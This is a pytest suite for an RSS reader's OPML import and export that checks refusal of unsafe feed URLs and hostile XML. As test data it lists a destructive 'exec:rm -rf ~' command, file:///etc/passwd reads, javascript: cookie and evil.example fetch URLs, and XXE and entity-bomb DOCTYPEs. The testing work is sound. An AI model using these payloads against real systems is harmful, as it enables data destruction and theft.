"""OPML subscriptions: import from other readers' exports, export and round trip, refused schemes, hostile files."""

from __future__ import annotations

import builtins
import socket
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pozirk_reader.core.article.hygiene import clean_text, fold_spaces
from pozirk_reader.core.errors import ReaderError
from pozirk_reader.core.limits import MAX_OPML_BYTES, MAX_OPML_TITLE_CHARS
from pozirk_reader.core.web.opml import OpmlError, OpmlFeed, parse_opml, to_opml
from pozirk_reader.core.web.xmlsafety import UnsafeXmlError

FORBIDDEN = (
    {chr(code) for code in range(0x20)}
    | {chr(code) for code in range(0x7F, 0xA0)}
    | set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
)

NEWSBOAT_EXPORT = b"""<?xml version="1.0"?>
<opml version="1.0">
  <head>
    <title>newsboat - Exported Feeds</title>
  </head>
  <body>
    <outline type="rss" xmlUrl="https://pozirk.example/feeds/rss-full.xml" htmlUrl="https://pozirk.example/" title="Pozirk sample (full text)"/>
    <outline type="rss" xmlUrl="https://pozirk.example/feeds/atom.xml" htmlUrl="https://pozirk.example/" title="Pozirk sample (Atom)"/>
    <outline type="rss" xmlUrl="exec:~/bin/minsk-weather.sh" htmlUrl="" title="\xd0\x9f\xd0\xbe\xd0\xb3\xd0\xbe\xd0\xb4\xd0\xb0"/>
    <outline type="rss" xmlUrl="filter:~/bin/strip-ads.py:https://news.example.org/rss" htmlUrl="" title="Filtered"/>
    <outline type="rss" xmlUrl="query:Unread:unread = &quot;yes&quot;" htmlUrl="" title="Unread"/>
    <outline type="rss" xmlUrl="http://news.example.org/rss?lang=ru&amp;section=minsk" htmlUrl="http://news.example.org/" title=""/>
  </body>
</opml>
"""

FEEDLY_EXPORT = """<?xml version="1.0" encoding="UTF-8"?>

<opml version="1.0">
  <head>
    <title>Александра subscriptions in feedly Cloud</title>
  </head>
  <body>
    <outline text="Новости" title="Новости">
      <outline type="rss" text="Pozirk sample (summaries)" title="Pozirk sample (summaries)" xmlUrl="https://pozirk.example/feeds/rss-summaries.xml" htmlUrl="https://pozirk.example/"/>
      <outline type="rss" text="Навіны Гродна" title="Навіны Гродна" xmlUrl="https://grodno.example/rss" htmlUrl="https://grodno.example/"/>
    </outline>
    <outline text="Tech &amp; science" title="Tech &amp; science">
      <outline text="Inner folder" title="Inner folder">
        <outline type="rss" text="Deep &lt;feed&gt; &quot;one&quot;" title="Deep" xmlUrl="https://deep.example/atom.xml" htmlUrl="https://deep.example/"/>
      </outline>
      <outline type="rss" text="Pozirk sample (Atom)" title="Pozirk sample (Atom)" xmlUrl="HTTPS://Pozirk.Example/feeds/atom.xml" htmlUrl="https://pozirk.example/"/>
    </outline>
  </body>
</opml>
""".encode()

LOWERCASE_ATTRIBUTES = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<opml version="1.1"><head><title>Old reader</title><dateCreated>Mon, 02 Nov 2026 08:40:00 GMT</dateCreated></head>
<body><outline text="Caf\xe9 news" type="rss" xmlurl="http://cafe.example/rss.xml"/>
<outline TEXT="Shouting" XMLURL="https://loud.example/feed"/></body></opml>
"""

THUNDERBIRD_EXPORT = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0" xmlns:fz="urn:forumzilla:">
  <head><title>Thunderbird OPML Export - Blogs &amp; News Feeds</title></head>
  <body>
    <outline title="Blogs &amp; News Feeds">
      <outline title="Pozirk" text="Pozirk" type="rss" version="RSS" fz:quickMode="false" fz:options="{}" xmlUrl="https://pozirk.example/feeds/rss-full.xml" htmlUrl="https://pozirk.example/"/>
    </outline>
  </body>
</opml>
"""


def opml(*outlines: str, declaration: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> bytes:
    """A small OPML 2.0 file around ``outlines``."""
    body = "\n".join(outlines)
    return f'{declaration}<opml version="2.0"><head><title>t</title></head><body>{body}</body></opml>'.encode()


def outline(url: str, title: str = "Feed") -> str:
    """One feed outline, its attribute values escaped."""
    element = ET.Element("outline", {"type": "rss", "text": title, "xmlUrl": url})
    return ET.tostring(element, encoding="unicode")


# Reading other readers' exports


def test_a_newsboat_export() -> None:
    result = parse_opml(NEWSBOAT_EXPORT, "newsboat.opml")
    assert result.feeds == [
        OpmlFeed("https://pozirk.example/feeds/rss-full.xml", "Pozirk sample (full text)"),
        OpmlFeed("https://pozirk.example/feeds/atom.xml", "Pozirk sample (Atom)"),
        OpmlFeed("http://news.example.org/rss?lang=ru&section=minsk", None),
    ]
    assert [url for url, _ in result.refused] == [
        "exec:~/bin/minsk-weather.sh",
        "filter:~/bin/strip-ads.py:https://news.example.org/rss",
        'query:Unread:unread = "yes"',
    ]
    assert "exec: scheme is not allowed" in result.refused[0][1]


def test_a_feedly_export_with_nested_categories() -> None:
    result = parse_opml(FEEDLY_EXPORT, "feedly.opml")
    assert result.feeds == [
        OpmlFeed("https://pozirk.example/feeds/rss-summaries.xml", "Pozirk sample (summaries)"),
        OpmlFeed("https://grodno.example/rss", "Навіны Гродна"),
        OpmlFeed("https://deep.example/atom.xml", 'Deep <feed> "one"'),
        OpmlFeed("HTTPS://Pozirk.Example/feeds/atom.xml", "Pozirk sample (Atom)"),
    ]
    assert result.refused == []


def test_attribute_names_in_any_case_and_a_latin1_file() -> None:
    result = parse_opml(LOWERCASE_ATTRIBUTES, "old.opml")
    assert result.feeds == [
        OpmlFeed("http://cafe.example/rss.xml", "Café news"),
        OpmlFeed("https://loud.example/feed", "Shouting"),
    ]


def test_a_thunderbird_export_with_namespaced_attributes() -> None:
    result = parse_opml(THUNDERBIRD_EXPORT, "thunderbird.opml")
    assert result.feeds == [OpmlFeed("https://pozirk.example/feeds/rss-full.xml", "Pozirk")]


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (opml(outline("https://a.example/rss", "Новости Минска")).replace(b"UTF-8", b"windows-1251"), "declared"),
        (opml(outline("https://a.example/rss", "Новости Минска"), declaration=""), "undeclared"),
        (opml(outline("https://a.example/rss", "Новости Минска")).replace(b"UTF-8", b"KOI8-R"), "koi8"),
        (opml(outline("https://a.example/rss", "Новости Минска")).replace(b"UTF-8", b"UTF-16"), "utf-16"),
    ],
)
def test_cyrillic_encodings(data: bytes, name: str) -> None:
    text = data.decode("utf-8")
    encoded = {
        "declared": text.encode("cp1251"),
        "undeclared": text.encode("cp1251"),
        "koi8": text.encode("koi8_r"),
        "utf-16": text.encode("utf-16"),
    }[name]
    assert parse_opml(encoded, "cyrillic.opml").feeds == [OpmlFeed("https://a.example/rss", "Новости Минска")]


def test_titles_prefer_text_then_title_and_are_cleaned() -> None:
    data = opml(
        '<outline text="" title="Only title" xmlUrl="https://a.example/1"/>',
        '<outline text="Text" title="Title" xmlUrl="https://a.example/2"/>',
        '<outline xmlUrl="https://a.example/3"/>',
        '<outline text="Red\x1b[31m [0m\t&#x202e;evil&#10;line &#x9b;x" xmlUrl="https://a.example/4"/>',
        f'<outline text="{"Д" * (MAX_OPML_TITLE_CHARS + 50)}" xmlUrl="https://a.example/5"/>',
    )
    feeds = parse_opml(data, "titles.opml").feeds
    assert [feed.title for feed in feeds] == [
        "Only title",
        "Text",
        None,
        "Red[31m [0m evil line x",
        "Д" * MAX_OPML_TITLE_CHARS,
    ]


def test_duplicates_are_collapsed_keeping_the_first() -> None:
    data = opml(
        '<outline xmlUrl="https://a.example/rss"/>',
        '<outline text="Named later" xmlUrl="HTTPS://A.EXAMPLE/rss"/>',
        '<outline text="Third" xmlUrl="https://a.example/rss"/>',
        '<outline text="Path differs" xmlUrl="https://a.example/RSS"/>',
        '<outline text="x" xmlUrl="ftp://a.example/rss"/>',
        '<outline text="y" xmlUrl="ftp://a.example/rss"/>',
    )
    result = parse_opml(data, "dups.opml")
    assert result.feeds == [
        OpmlFeed("https://a.example/rss", "Named later"),
        OpmlFeed("https://a.example/RSS", "Path differs"),
    ]
    assert [url for url, _ in result.refused] == ["ftp://a.example/rss"]


def test_outlines_without_a_feed_url_are_not_feeds() -> None:
    data = opml(
        '<outline text="Category"><outline text="Link" type="link" url="https://a.example/page"/></outline>',
        '<outline text="Empty" xmlUrl="  "/>',
        '<outline text="Note" type="text"/>',
    )
    assert parse_opml(data, "notes.opml") == parse_opml(opml(), "empty.opml")
    assert parse_opml(data, "notes.opml").feeds == []


# Refused, never fetched


REFUSED = [
    ("file:///etc/passwd", "file: scheme"),
    ("FILE:///C:/Windows/win.ini", "file: scheme"),
    ("javascript:alert(document.cookie)", "javascript: scheme"),
    ("data:application/rss+xml;base64,PHJzcz4=", "data: scheme"),
    ("ftp://ftp.example/feed.xml", "ftp: scheme"),
    ("exec:rm -rf ~", "spaces"),
    ("exec:/usr/bin/id", "exec: scheme"),
    ("feed://pozirk.example/rss.xml", "feed: scheme"),
    ("smb://server/share/feed.xml", "smb: scheme"),
    ("feeds/rss.xml", "relative URL or local path"),
    ("/etc/passwd", "relative URL or local path"),
    ("~/feeds.xml", "relative URL or local path"),
    ("C:\\Users\\me\\feed.xml", "local file path"),
    ("//pozirk.example/rss.xml", "relative URL"),
    ("http:///etc/passwd", "without a host"),
    ("https://", "without a host"),
    ("https://exa mple.com/rss", "spaces"),
    ("https://a.example/\x9b2Jrss", "control characters"),
    ("https://a.example/\u202erss", "control characters"),
    ("http://[::1/rss", "not a valid URL"),
    ("https://a.example/" + "x" * 5000, "over 4096 characters"),
]


@pytest.mark.parametrize(("url", "reason"), REFUSED)
def test_non_http_urls_are_refused_with_a_reason(url: str, reason: str) -> None:
    result = parse_opml(opml(outline("https://ok.example/rss"), outline(url)), "mixed.opml")
    assert result.feeds == [OpmlFeed("https://ok.example/rss", "Feed")]
    assert len(result.refused) == 1
    shown, why = result.refused[0]
    assert reason in why
    assert "\n" not in why and "\n" not in shown
    assert not set(shown) & FORBIDDEN  # safe to print
    assert len(shown) <= 200


def test_refused_urls_are_listed_in_order() -> None:
    urls = [url for url, _ in REFUSED[:6]]
    result = parse_opml(opml(*(outline(url) for url in urls)), "all-refused.opml")
    assert result.feeds == []
    assert [url for url, _ in result.refused] == [fold_spaces(clean_text(url)) for url in urls]


def test_nothing_is_opened_fetched_or_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_text("<rss><channel><title>TOP-SECRET-CONTENT</title></channel></rss>", "utf-8")
    marker = tmp_path / "ran"
    data = opml(
        outline(secret.as_uri(), "Local file"),
        outline(str(secret), "Local path"),
        outline(f"exec:touch {marker}", "Script"),
        outline(f"exec:/usr/bin/touch{marker}", "Script 2"),
        outline("https://pozirk.example/rss.xml", "Remote"),
        outline("javascript:fetch('https://evil.example')", "JS"),
    )

    def forbidden(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"parse_opml tried to open, connect or run: {args!r}")

    monkeypatch.setattr(builtins, "open", forbidden)
    monkeypatch.setattr(socket.socket, "connect", forbidden)
    monkeypatch.setattr(socket, "create_connection", forbidden)
    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr("os.system", forbidden)
    result = parse_opml(data, "local.opml")
    monkeypatch.undo()

    assert result.feeds == [OpmlFeed("https://pozirk.example/rss.xml", "Remote")]
    assert len(result.refused) == 5
    assert "TOP-SECRET-CONTENT" not in repr(result)
    assert not marker.exists()


def test_an_external_dtd_is_never_read(tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "TOP-SECRET-CONTENT">', "utf-8")
    data = (
        f'<?xml version="1.0"?><!DOCTYPE opml SYSTEM "{dtd.as_uri()}">'
        '<opml version="2.0"><body><outline text="a&secret;b" xmlUrl="https://a.example/rss"/></body></opml>'
    ).encode()
    try:
        result = parse_opml(data, "external.opml")
    except OpmlError:
        return  # refusing the undefined entity is as good as never reading the DTD
    assert "TOP-SECRET-CONTENT" not in repr(result)


# Hostile and broken files


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE opml [<!ENTITY lol "lol">]>',
        '<!DOCTYPE opml [<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
        '<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE opml [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
        '<!doctype opml [ <!entity lol "x"> ]>',
    ],
)
def test_an_entity_declaring_doctype_is_refused_before_parsing(doctype: str) -> None:
    data = f'<?xml version="1.0"?>{doctype}<opml version="2.0"><body><outline text="&lol;" xmlUrl="https://a.example/"/></body></opml>'
    with pytest.raises(UnsafeXmlError) as raised:
        parse_opml(data.encode(), "bomb.opml")
    assert str(raised.value).startswith("bomb.opml: refused")
    assert "\n" not in str(raised.value)
    assert isinstance(raised.value, ReaderError)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "not well-formed"),
        (b"   \n", "not well-formed"),
        (b'<opml version="2.0"><body><outline xmlUrl="https://a.example/"></body></opml>', "not well-formed"),
        (b'<opml version="2.0"><body><outline xmlUrl="https://a.example/?a=1&b=2"/></body></opml>', "not well-formed"),
        (b'<opml version="2.0"><body>\n<outline text="\n\n"', "not well-formed"),
        (b"\x00\x01\x02\xff\xfe binary", "not well-formed"),
        (b'<opml version="2.0"><body><outline text="&#27;" xmlUrl="https://a.example/"/></body></opml>', "invalid"),
        (b"<html><body><p>Not OPML</p></body></html>", "not an OPML file"),
        (b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>', "not an OPML file (its root element is <rss>)"),
        (b"<x:feed xmlns:x='urn:\x1b[31m'/>", "not an OPML file (its root element is <feed>)"),
    ],
)
def test_a_broken_or_foreign_file_is_a_one_line_error(data: bytes, words: str) -> None:
    with pytest.raises(OpmlError) as raised:
        parse_opml(data, "subs/broken.opml")
    message = str(raised.value)
    assert message.startswith("subs/broken.opml: ")
    assert words in message
    assert "\n" not in message and not set(message) & FORBIDDEN
    assert isinstance(raised.value, ReaderError)


def test_the_file_name_in_a_message_is_clean() -> None:
    with pytest.raises(OpmlError) as raised:
        parse_opml(b"<opml>", "subs\x1b[31m\nevil.opml")
    assert str(raised.value).startswith("subs[31m evil.opml: not well-formed OPML")


def test_a_file_over_the_cap_is_refused() -> None:
    with pytest.raises(OpmlError, match=r"^huge\.opml: refused: the file is over 10 MiB$"):
        parse_opml(b" " * (MAX_OPML_BYTES + 1), "huge.opml")


def test_deep_nesting_and_many_outlines_are_read() -> None:
    deep = "<outline text='c'>" * 5000 + outline("https://deep.example/rss") + "</outline>" * 5000
    many = "".join(outline(f"https://many.example/{number}") for number in range(20_000))
    result = parse_opml(opml(deep, many), "big.opml")
    assert len(result.feeds) == 20_001
    assert result.feeds[0] == OpmlFeed("https://deep.example/rss", "Feed")


# Writing


HOSTILE_TITLES = [
    "Новости & события",
    'Say "hello" & <b>bye</b>',
    "It's <script>alert('x')</script>",
    "Навіны Беларусі — «Позірк»",
    "]]> <![CDATA[ x",
    "&amp; already escaped &lt;",
    "Tabs\tand\nnew lines\r\nfolded",
    "\x1b[31mred\x1b[0m \u202eevil\x00",
    "[bold]rich[/] [@click=app.quit]quit[/]",
]


def test_round_trip_keeps_feeds_in_order_with_hostile_titles() -> None:
    feeds: list[tuple[str, str | None]] = [
        (f"https://pozirk.example/feeds/{number}.xml", title) for number, title in enumerate(HOSTILE_TITLES)
    ]
    feeds += [("http://news.example.org/rss?lang=ru&section=minsk", None), ("https://навіны.example/фід", "")]
    result = parse_opml(to_opml(feeds).encode("utf-8"), "export.opml")
    assert result.refused == []
    assert [feed.url for feed in result.feeds] == [url for url, _ in feeds]
    titles = [fold_spaces(clean_text(title).replace("\n", " ")) for title in HOSTILE_TITLES]
    assert [feed.title for feed in result.feeds] == [*titles, feeds[-2][0], feeds[-1][0]]  # no title: the URL
    assert result.feeds[1].title == 'Say "hello" & <b>bye</b>'
    assert result.feeds[7].title == "[31mred[0m evil"


def test_export_is_valid_opml_2() -> None:
    text = to_opml([("https://a.example/rss", 'A & "B" <C>')], title="Мои подписки & <всё>")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">')
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == "opml" and root.get("version") == "2.0"
    assert root.findtext("head/title") == "Мои подписки & <всё>"
    outlines = root.findall("body/outline")
    assert [dict(element.attrib) for element in outlines] == [
        {"type": "rss", "text": 'A & "B" <C>', "title": 'A & "B" <C>', "xmlUrl": "https://a.example/rss"}
    ]
    assert "&amp;" in text and "&lt;C&gt;" in text and "&quot;B&quot;" in text
    assert "<C>" not in text


def test_export_of_nothing_and_of_control_characters() -> None:
    empty = ET.fromstring(to_opml([]).encode())
    assert empty.find("body") is not None and empty.findall("body/outline") == []
    text = to_opml([("https://a.example/\x1b[2J", "\x00\x1b\x0c\ufffe"), ("\x1b", "gone")], title="\x1b]0;x\x07")
    root = ET.fromstring(text.encode())  # no character XML forbids
    assert [element.get("xmlUrl") for element in root.iter("outline")] == ["https://a.example/[2J"]
    assert root.findtext("head/title") == "]0;x"
    assert not set(text) & (FORBIDDEN - {"\n"})


urls = st.builds(
    "https://{}.example/{}".format,
    st.text("abcdefghijklmnopqrstuvwxyz0123456789-", min_size=1, max_size=12),
    st.text("abcdefghijklmnopqrstuvwxyzABC0123456789-._~/?=&%+;", max_size=30),
)


@settings(max_examples=200)
@given(st.lists(st.tuples(urls, st.one_of(st.none(), st.text(max_size=40))), max_size=12, unique_by=lambda f: f[0]))
def test_any_export_reads_back(feeds: list[tuple[str, str | None]]) -> None:
    result = parse_opml(to_opml(feeds).encode("utf-8"), "export.opml")
    assert result.refused == []
    assert [feed.url for feed in result.feeds] == [url for url, _ in feeds]
    for feed, (url, title) in zip(result.feeds, feeds, strict=True):
        assert feed.title == (fold_spaces(clean_text(title or "").replace("\n", " "))[:MAX_OPML_TITLE_CHARS] or url)


@settings(max_examples=300)
@given(st.binary(max_size=300) | st.text(max_size=200).map(str.encode))
def test_any_bytes_give_a_result_or_a_reader_error(data: bytes) -> None:
    try:
        result = parse_opml(data, "fuzz.opml")
    except ReaderError as error:
        assert "\n" not in str(error)
        return
    assert all(feed.url.lower().startswith(("http://", "https://")) for feed in result.feeds)


def test_importing_the_module_stays_light() -> None:
    code = (
        "import sys, pozirk_reader.core.web.opml\n"
        "heavy = ('trafilatura', 'lxml', 'textual', 'feedparser', 'httpx', 'charset_normalizer')\n"
        "print(sorted(m for m in sys.modules if m.split('.')[0] in heavy))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
